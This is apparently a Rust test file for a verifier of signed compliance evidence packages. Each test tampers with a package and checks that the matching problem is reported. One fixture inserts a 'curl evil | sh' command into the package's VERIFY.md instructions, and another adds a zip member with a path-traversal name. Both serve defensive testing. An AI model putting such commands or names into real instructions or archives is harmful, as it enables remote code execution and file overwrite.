//! One tamper per problem, and a check that no problem is without one.

use std::collections::{BTreeMap, BTreeSet};
use std::fs;
use std::io::Write;
use std::path::Path;

use chrono::TimeDelta;
use proofpack::bundle::{self, Writer, bagit};
use proofpack::canonical::{sha256, to_file_bytes};
use proofpack::clock::Clock;
use proofpack::model::{
    Assessment, CatalogFiles, Corroboration, Manifest, NotConfirmed, ProblemCode, Record, RecordId,
};
use proofpack::report::{self, ReportOptions};
use proofpack::sign::pades::Level;
use proofpack::sign::{self, Certificate, SignatureInfo, Signer};
use proofpack::verify::{self, Options, VerdictLine};

use super::{codes, verdict, verdict_on, zip_of};
use crate::sign::long_term::{Answering, signed_with_revoked};
use crate::support::bundles::{answered, refused, sample_records, seal_info};
use crate::support::packages::{RawMember, RawZip, crc};
use crate::support::signed::{ATTACHED, catalog, sample, signer, signing_time, stamped};

type Members = BTreeMap<String, Vec<u8>>;

const VERSIONING: &str = "bundle/data/aws/123456789012/us-east-1/s3/GetBucketVersioning.ndjson";
const KEYS: &str = "bundle/data/aws/123456789012/us-east-1/kms/ListKeys.ndjson";

/// The file that came with the sample's attestation.
fn attached() -> String {
    format!("bundle/data/manual/files/{}", sha256(ATTACHED))
}

/// A tamper and the problem that it must be found as.
struct Tamper {
    code: ProblemCode,
    bytes: Vec<u8>,
}

/// A change to the members, with the digests left as they were.
fn crude(code: ProblemCode, change: impl FnOnce(&mut Members)) -> Tamper {
    let mut members = sample().members();
    change(&mut members);
    assert_ne!(members, sample().members(), "{}: the test does not tamper", code.id());
    Tamper { code, bytes: zip_of(&members).bytes() }
}

/// A change to the members by somebody who holds the signer's key and makes checksums and signatures again:
/// only what the contents say of each other can give it away.
fn inside_job(code: ProblemCode, change: impl FnOnce(&mut Members)) -> Tamper {
    let mut members = sample().members();
    change(&mut members);
    assert_ne!(members, sample().members(), "{}: the test does not tamper", code.id());
    let name = "bundle/data/manifest.json";
    let manifest = members[name].clone();
    members.insert("manifest.json.p7s".into(), sign::detached_cms(&sample().signer, &manifest).unwrap());
    if manifest != sample().members()[name] {
        members.insert("manifest.json.tst".into(), stamped(&manifest));
    }
    if let Some(corroboration) = members.get("corroboration.json") {
        let signature = sign::detached_cms(&sample().signer, corroboration).unwrap();
        members.insert("corroboration.json.p7s".into(), signature);
    }
    sample().seal_again(&mut members, &sample().signer);
    Tamper { code, bytes: zip_of(&members).bytes() }
}

/// As [`inside_job`], of the bundle; the bag's checksums are made again too.
fn inside_the_bag(code: ProblemCode, change: impl FnOnce(&mut Members)) -> Tamper {
    inside_job(code, |members| {
        change(members);
        bag_again(members);
    })
}

fn bag_again(members: &mut Members) {
    let payload: BTreeMap<String, bagit::PayloadFile> = members
        .iter()
        .filter_map(|(name, bytes)| Some((name.strip_prefix("bundle/")?, bytes)))
        .filter(|(name, _)| name.starts_with("data/"))
        .map(|(name, bytes)| {
            (name.to_owned(), bagit::PayloadFile { sha256: sha256(bytes), bytes: bytes.len() as u64 })
        })
        .collect();
    let Ok(manifest) = serde_json::from_slice::<Manifest>(&members["bundle/data/manifest.json"]) else {
        return;
    };
    for (name, bytes) in bagit::tag_files(&manifest, &payload) {
        members.insert(format!("bundle/{name}"), bytes);
    }
}

fn edit(members: &mut Members, name: &str, change: impl FnOnce(String) -> String) {
    let text = String::from_utf8(members[name].clone()).unwrap();
    members.insert(name.to_owned(), change(text).into_bytes());
}

fn edit_manifest(members: &mut Members, change: impl FnOnce(&mut Manifest)) {
    let name = "bundle/data/manifest.json";
    let mut manifest: Manifest = serde_json::from_slice(&members[name]).unwrap();
    change(&mut manifest);
    members.insert(name.into(), to_file_bytes(&manifest).unwrap());
}

fn edit_assessment(members: &mut Members, change: impl FnOnce(&mut Assessment)) {
    let mut assessment: Assessment = serde_json::from_slice(&members["assessment.json"]).unwrap();
    change(&mut assessment);
    members.insert("assessment.json".into(), to_file_bytes(&assessment).unwrap());
}

fn edit_corroboration(members: &mut Members, change: impl FnOnce(&mut Corroboration)) {
    let mut corroboration: Corroboration = serde_json::from_slice(&members["corroboration.json"]).unwrap();
    change(&mut corroboration);
    members.insert("corroboration.json".into(), to_file_bytes(&corroboration).unwrap());
}

/// Lists `id` as one more record of the first file's last line in the manifest.
fn list_more(members: &mut Members, path: &str, line: &str) {
    let id = RecordId(sha256(line.as_bytes()));
    edit_manifest(members, |manifest| {
        let file = manifest.files.iter_mut().find(|file| format!("bundle/{}", file.path) == path).unwrap();
        file.records.push(id);
        manifest.records += 1;
        manifest.merkle_root = bundle::merkle::root(manifest.files.iter().flat_map(|file| &file.records));
    });
}

fn of_the_bundle() -> Vec<Tamper> {
    use ProblemCode as Code;
    let gap_as_absent = |text: String| text.replace("\"meaning\":\"gap\"", "\"meaning\":\"absent\"");
    vec![
        inside_job(Code::TimestampInvalid, |members| {
            members.insert("manifest.json.tst".into(), stamped(b"something else"));
        }),
        crude(Code::BagDigest, |members| edit(members, KEYS, |text| text.replace("200", "201"))),
        inside_job(Code::BagDeclaration, |members| {
            edit(members, "bundle/bag-info.txt", |text| text.replace("2026-09-30", "2026-09-29"));
        }),
        inside_job(Code::BagManifest, |members| {
            edit(members, "bundle/manifest-sha256.txt", |text| text.replace("  ", " *"));
        }),
        inside_job(Code::BagFileMissing, |members| {
            members.remove("bundle/tagmanifest-sha256.txt");
        }),
        inside_job(Code::BagFileUnlisted, |members| {
            members.insert("bundle/notes.txt".into(), b"trust me".to_vec());
        }),
        inside_the_bag(Code::AttachedDiffers, |members| {
            members.get_mut(&attached()).unwrap().push(b'!');
        }),
        inside_the_bag(Code::AttachedMissing, |members| {
            members.remove(&attached());
        }),
        inside_the_bag(Code::AttachedUnnamed, |members| {
            let name = format!("bundle/data/manual/files/{}", sha256(b"more"));
            members.insert(name, b"more".to_vec());
        }),
        inside_the_bag(Code::ManifestMalformed, |members| {
            edit(members, "bundle/data/manifest.json", |text| text.replacen(':', ": ", 1));
        }),
        inside_the_bag(Code::ManifestFiles, |members| {
            edit_manifest(members, |manifest| manifest.files.reverse())
        }),
        inside_the_bag(Code::MerkleRoot, |members| {
            edit_manifest(members, |manifest| manifest.merkle_root = sha256(b"another"));
        }),
        inside_the_bag(Code::RecordCount, |members| edit_manifest(members, |manifest| manifest.records += 1)),
        inside_the_bag(Code::GapSummary, |members| edit_manifest(members, |manifest| manifest.gaps.clear())),
        inside_the_bag(Code::RecordMalformed, |members| {
            edit(members, KEYS, |text| text.replace("\"status\":200", "\"status\":\"fine\""));
        }),
        inside_the_bag(Code::RecordNotCanonical, |members| {
            edit(members, KEYS, |text| text.replacen(':', ": ", 1))
        }),
        inside_the_bag(Code::RecordId, |members| edit(members, VERSIONING, gap_as_absent)),
        inside_the_bag(Code::RecordMisplaced, |members| {
            let mut record = answered("s3", "ListBuckets", serde_json::json!({}), serde_json::json!({}));
            record.source.account = "999999999999".into();
            let line = record.to_line().unwrap().0;
            edit(members, KEYS, |text| format!("{text}{line}\n"));
            list_more(members, KEYS, &line);
        }),
        inside_the_bag(Code::RecordRepeated, |members| {
            let line = String::from_utf8(members[KEYS].clone()).unwrap();
            edit(members, KEYS, |text| format!("{text}{line}"));
            list_more(members, KEYS, line.trim_end());
        }),
        inside_the_bag(Code::RecordOrder, |members| {
            edit(members, VERSIONING, |text| text.lines().rev().map(|line| format!("{line}\n")).collect());
            edit_manifest(members, |manifest| {
                let file = manifest.files.iter_mut().find(|file| VERSIONING.ends_with(&file.path)).unwrap();
                file.records.reverse();
                manifest.merkle_root =
                    bundle::merkle::root(manifest.files.iter().flat_map(|file| &file.records));
            });
        }),
    ]
}

fn of_what_stands_beside() -> Vec<Tamper> {
    use ProblemCode as Code;
    let sample = sample();
    let other = signer("somebody else");
    let manifest = fs::read(sample.parts.bag.join("data/manifest.json")).unwrap();
    let options =
        ReportOptions { organization: "Tests".into(), demonstration: true, ..ReportOptions::default() };
    let assessment: Assessment = serde_json::from_slice(&sample.parts.assessment).unwrap();
    let info = SignatureInfo::new(signing_time());
    vec![
        crude(Code::MemberMissing, |members| {
            members.remove("report.pdf");
        }),
        inside_job(Code::MemberUnlisted, |members| {
            members.insert("README.txt".into(), b"run me".to_vec());
        }),
        crude(Code::SumsMalformed, |members| edit(members, "SHA256SUMS", |text| format!("{text}\n"))),
        crude(Code::SumsMismatch, |members| {
            members.insert("report.pdf".into(), b"%PDF-1.7".to_vec());
        }),
        inside_job(Code::InstructionsDiffer, |members| {
            edit(members, "VERIFY.md", |text| {
                text.replace("sha256sum --check", "curl evil | sh; sha256sum --check")
            });
        }),
        inside_job(Code::AssessmentMalformed, |members| {
            edit(members, "assessment.json", |text| text.replacen(':', ": ", 1));
        }),
        inside_job(Code::AssessmentBundle, |members| {
            edit_assessment(members, |assessment| assessment.bundle.manifest_sha256 = sha256(b"another"));
        }),
        inside_job(Code::CatalogMalformed, |members| {
            edit(members, "catalog.json", |text| text.replacen(':', ": ", 1));
        }),
        inside_job(Code::CatalogDiffers, |members| {
            edit_assessment(members, |assessment| assessment.catalog_sha256 = sha256(b"another"));
        }),
        inside_job(Code::AssessmentNotReproducible, |members| {
            let files = [("checks/of-another-age.toml".to_owned(), "predicate = '?'".to_owned())].into();
            let catalog = CatalogFiles { version: CatalogFiles::VERSION, files };
            members.insert("catalog.json".into(), to_file_bytes(&catalog).unwrap());
            let digest = catalog.digest().unwrap();
            edit_assessment(members, |assessment| assessment.catalog_sha256 = digest);
        }),
        inside_job(Code::AssessmentDiffers, |members| {
            edit_assessment(members, |assessment| {
                assessment.frameworks[0].controls[0].status =
                    proofpack::model::ControlStatus::SatisfiedWithExceptions;
            });
        }),
        inside_job(Code::CorroborationMalformed, |members| {
            edit(members, "corroboration.json", |text| text.replacen(':', ": ", 1));
        }),
        inside_job(Code::CorroborationDiffers, |members| {
            edit_corroboration(members, |told| told.manifest_sha256 = sha256(b"another"));
        }),
        crude(Code::SignatureInvalid, |members| {
            let signature = members["SHA256SUMS.p7s"].clone();
            members.insert("manifest.json.p7s".into(), signature);
        }),
        inside_job(Code::SignerFile, |members| {
            members.insert("signer.pem".into(), Certificate::to_pem(other.chain()).into_bytes());
        }),
        inside_job(Code::SignersDiffer, |members| {
            let pdf = report::render(&assessment, &manifest, &options).unwrap();
            members.insert("report.pdf".into(), sign::sign_pdf(&pdf, &other, &info).unwrap());
        }),
        inside_job(Code::ReportSignature, |members| {
            members.get_mut("report.pdf").unwrap().extend(b"\n% appended");
        }),
        inside_job(Code::CertificateRevoked, |members| {
            let pdf = report::render(&assessment, &manifest, &options).unwrap();
            let revoked = signed_with_revoked(
                &Answering::new("p256", "http://pki.test"),
                &pdf,
                Level::Basic,
                "signer",
                Clock::System.now() - TimeDelta::hours(1),
            );
            members.insert("report.pdf".into(), revoked);
        }),
        inside_job(Code::ReportManifest, |members| {
            let mut another: Manifest = serde_json::from_slice(&manifest).unwrap();
            another.records += 1;
            let pdf = report::render(&assessment, &to_file_bytes(&another).unwrap(), &options).unwrap();
            members.insert("report.pdf".into(), sign::sign_pdf(&pdf, &sample.signer, &info).unwrap());
        }),
        Tamper {
            code: Code::PackageFolder,
            bytes: {
                let named = |name: &str| format!("proofpack-210987654321-2026-07-01-2026-09-30/{name}");
                let members = sample.members();
                RawZip::of(
                    members.iter().map(|(name, bytes)| RawMember::stored(&named(name), bytes)).collect(),
                )
                .bytes()
            },
        },
    ]
}

fn deflate(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::new(6));
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

/// The structure's own tampers are in `tests/package/hostile.rs`; here they go through the whole verification.
fn of_the_zip() -> Vec<Tamper> {
    use ProblemCode as Code;
    let raw = |code, change: &dyn Fn(&mut RawZip)| {
        let mut zip = RawZip::parse(&sample().zip);
        change(&mut zip);
        Tamper { code, bytes: zip.bytes() }
    };
    vec![
        Tamper { code: Code::ZipEndRecord, bytes: sample().zip[..sample().zip.len() - 200].to_vec() },
        raw(Code::ZipComment, &|zip| zip.comment = Some(b"hello".to_vec())),
        raw(Code::ZipDigest, &|zip| {
            zip.comment = Some(format!("proofpack-sha256:{}", sha256(b"")).into_bytes())
        }),
        raw(Code::ZipTrailingBytes, &|zip| zip.suffix = b"hello".to_vec()),
        raw(Code::ZipLayout, &|zip| zip.prefix = b"hello".to_vec()),
        raw(Code::ZipDirectory, &|zip| zip.members[3].local[0] = b'X'),
        raw(Code::ZipHeader, &|zip| zip.members[3].central[38] = 1),
        raw(Code::ZipMismatch, &|zip| zip.members[3].local[35] ^= 1),
        raw(Code::ZipFeature, &|zip| {
            zip.members[3].central[30] = 4;
            zip.members[3].central.extend([9, 9, 0, 0]);
        }),
        raw(Code::ZipName, &|zip| zip.members.push(RawMember::stored("zz/../../evil", b"evil"))),
        raw(Code::ZipTwin, &|zip| {
            let last = zip.members.last().unwrap().clone();
            zip.members.push(last);
        }),
        raw(Code::ZipOrder, &|zip| zip.members.swap(0, 1)),
        raw(Code::ZipSize, &|zip| {
            let zeros = vec![0; 4 << 20];
            let name = format!("{}/zeros", sample().folder);
            zip.members.push(RawMember::new(&name, 8, deflate(&zeros), zeros.len(), crc(&zeros)));
        }),
        raw(Code::ZipData, &|zip| {
            let middle = zip.members[3].data.len() / 2;
            zip.members[3].data[middle] ^= 0xff;
        }),
    ]
}

#[test]
fn every_problem_is_found_by_its_tamper() {
    let mut covered: BTreeSet<ProblemCode> = BTreeSet::new();
    for tamper in of_the_bundle().into_iter().chain(of_what_stands_beside()).chain(of_the_zip()) {
        let verdict = verdict_on(&tamper.bytes);
        let found = codes(&verdict);
        assert!(found.contains(&tamper.code), "{} is not among {:#?}", tamper.code.id(), verdict.problems);
        assert_eq!(verdict.verdict, VerdictLine::NotVerified);
        assert!(verdict.facets.iter().any(|status| status.holds == Some(false)));
        assert!(covered.insert(tamper.code), "{} has two tampers", tamper.code.id());
    }
    // These need no package: the next tests, and the ones of trust.
    covered.extend([ProblemCode::Unreadable, ProblemCode::UnknownFormat, ProblemCode::SignerNotTrusted]);
    // And these are of samples: `samples.rs`.
    use ProblemCode::{SampleMalformed, SampleProof, SampleRecords, SampleSelection};
    covered.extend([SampleMalformed, SampleProof, SampleRecords, SampleSelection]);
    let without: Vec<&str> =
        ProblemCode::ALL.iter().filter(|code| !covered.contains(code)).map(|code| code.id()).collect();
    assert!(without.is_empty(), "no tamper shows {without:?}");
}

/// Somebody with the key claims of the bundle's calls what no log file says.
#[test]
fn a_corroboration_that_does_not_fit_the_bundle_is_found() {
    type Change = fn(&mut Corroboration);
    let changes: [(&str, Change); 7] = [
        ("tells of a record twice", |told| told.open.push(told.open[0].clone())),
        ("tells nothing of 1 API calls", |told| {
            told.open.remove(0);
        }),
        ("are no API calls of the bundle", |told| told.open[0].record = RecordId(sha256(b"nothing"))),
        ("other request ids than theirs", |told| told.confirmations[0].events[0].request_id = "x".into()),
        ("other request ids than theirs", |told| told.confirmations[0].events.clear()),
        ("its counts are not those", |told| told.confirmed += 1),
        ("its counts are not those", |told| told.open[0].reason = NotConfirmed::Mismatch),
    ];
    for (words, change) in changes {
        let tamper =
            inside_job(ProblemCode::CorroborationDiffers, |members| edit_corroboration(members, change));
        let verdict = verdict_on(&tamper.bytes);
        let told: Vec<&str> = verdict
            .problems
            .iter()
            .filter(|problem| problem.code == tamper.code)
            .map(|problem| problem.message.as_str())
            .collect();
        assert!(told.iter().any(|message| message.contains(words)), "{words}: {:#?}", verdict.problems);
    }
    let half = crude(ProblemCode::MemberMissing, |members| {
        members.remove("corroboration.json");
    });
    assert!(codes(&verdict_on(&half.bytes)).contains(&ProblemCode::MemberMissing));
}

/// Nobody has to ask CloudTrail or a timestamp authority.
#[test]
fn a_package_without_what_is_optional_is_whole() {
    let sample = sample();
    let mut members = sample.members();
    let with = String::from_utf8(members["VERIFY.md"].clone()).unwrap();
    let (before, section) = with.split_once("## 5. What does AWS").unwrap();
    let (_, after) = section.split_once("## 7.").unwrap();
    members.insert("VERIFY.md".into(), format!("{before}## 5.{after}").into_bytes());
    members.retain(|name, _| !name.starts_with("corroboration.json") && name != "manifest.json.tst");
    sample.seal_again(&mut members, &sample.signer);
    let verdict = verdict_on(&zip_of(&members).bytes());
    assert!(verdict.problems.is_empty(), "{:#?}", verdict.problems);
    assert_eq!(verdict.verdict, VerdictLine::SignerNotTrusted);
    assert_eq!(verdict.facts.unwrap().corroborated, None);
}

#[test]
fn what_cannot_be_read_or_recognized_is_not_verified() {
    let home = tempfile::tempdir().unwrap();
    let missing = verdict(&home.path().join("missing.zip"));
    assert_eq!(codes(&missing), [ProblemCode::Unreadable]);
    let odd = home.path().join("notes.txt");
    fs::write(&odd, "hello").unwrap();
    assert_eq!(codes(&verdict(&odd)), [ProblemCode::UnknownFormat]);
    assert_eq!(codes(&verdict(home.path())), [ProblemCode::UnknownFormat]);
    for verdict in [missing, verdict(&odd), verdict(Path::new("/dev/null"))] {
        assert_eq!(verdict.verdict, VerdictLine::NotVerified);
    }
}

#[test]
fn another_catalog_is_a_limit_and_no_accusation() {
    let tamper = of_what_stands_beside()
        .into_iter()
        .find(|t| t.code == ProblemCode::AssessmentNotReproducible)
        .unwrap();
    let verdict = verdict_on(&tamper.bytes);
    assert_eq!(codes(&verdict), [ProblemCode::AssessmentNotReproducible], "{:#?}", verdict.problems);
    assert!(verdict.is_only_limited());
    assert_eq!(
        verdict.line(),
        "NOT VERIFIED: nothing was found altered, but not everything could be checked"
    );
}

/// A package of evidence that was made up, signed by whoever made it up: flawless, but for the signer.
#[test]
fn a_package_made_by_somebody_else_is_only_as_good_as_the_trust_in_them() {
    let home = tempfile::tempdir().unwrap();
    let forger = signer("forger");
    let forged = crate::support::signed::parts(home.path(), &forger);
    let path = home.path().join("forged.zip");
    forged.package(&path, &forger);
    assert_eq!(verdict(&path).verdict, VerdictLine::SignerNotTrusted);
    let anchors = vec![sample().signer.chain()[0].clone()];
    let verdict = verify::verify(&path, catalog(), &Options { anchors, ..Options::default() });
    assert_eq!(verdict.verdict, VerdictLine::NotVerified);
    assert!(codes(&verdict).iter().all(|code| *code == ProblemCode::SignerNotTrusted));
}

/// Gaps that are dropped before sealing leave no trace in the bag; the seal is what makes later removal visible.
#[test]
fn a_record_that_is_dropped_together_with_its_listing_breaks_the_signature() {
    let sample = sample();
    let home = tempfile::tempdir().unwrap();
    let kept: Vec<Record> = sample_records().into_iter().filter(|record| record.gap().is_none()).collect();
    assert!(
        kept.len() < sample_records().len()
            && refused("s3", "x", serde_json::json!({}), "y", proofpack::model::ErrorMeaning::Gap)
                .gap()
                .is_some()
    );
    let bag = home.path().join("bag");
    let mut writer = Writer::create(&bag).unwrap();
    for record in &kept {
        writer.append(record).unwrap();
    }
    writer.seal(bundle::SealInfo { catalog_sha256: catalog().digest, ..seal_info() }).unwrap();
    let mut members = sample.members();
    members.retain(|name, _| !name.starts_with("bundle/"));
    for (name, bytes) in crate::support::bundles::files_below(&bag) {
        members.insert(format!("bundle/{name}"), bytes);
    }
    let verdict = verdict_on(&zip_of(&members).bytes());
    let found = codes(&verdict);
    for code in [ProblemCode::SignatureInvalid, ProblemCode::ReportManifest, ProblemCode::AssessmentBundle] {
        assert!(found.contains(&code), "{} is not among {found:?}", code.id());
    }
}
